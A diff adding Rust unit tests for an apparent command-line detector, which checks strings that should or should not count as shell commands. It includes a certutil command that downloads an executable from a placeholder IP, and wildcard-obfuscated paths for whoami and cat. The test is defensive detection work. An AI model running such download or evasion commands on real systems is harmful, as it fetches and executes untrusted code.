@@ -91,9 +91,34 @@ fn any_bytes_at_all() {
 }
 
 #[test]
+fn command_lines_as_a_whole() {
+    let whole = |text: &str| is_command_line(text.as_bytes(), &mut Deadline::unlimited());
+    for text in [
+        "zstdcat /var/log/a.zst",
+        "certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
+        "sudo cat /etc/x",
+        "ping.exe -n 5 127.0.0.1",
+    ] {
+        assert!(whole(text), "{text}");
+    }
+    for text in [
+        "cat /etc/fstab explained",
+        "ls 300 lexus",
+        "cat in the hat",
+        "docker basics",
+        "sort by date",
+        "",
+        "-x",
+        "what is curl -x",
+    ] {
+        assert!(!whole(text), "{text}");
+    }
+}
+
+#[test]
 fn wildcards_take_a_bounded_time() {
     // A matcher that tries every length for every `*` would take minutes for these.
-    for name in ["**************xy", "*?*?*?*?*?*?*?xy", "c*a*t*?*?*?*?*?z"] {
+    for name in ["**************qj", "*?*?*?*?*?*?*?qj", "c*a*t*?*?*?*?*?z"] {
         assert!(!runs(&format!(";/{name} ").repeat(1000)), "{name}");
     }
     assert!(runs(";/b*n/*a*t -x") && runs(";/usr/bin/w*m? ") && runs(";/bin/??oami"));
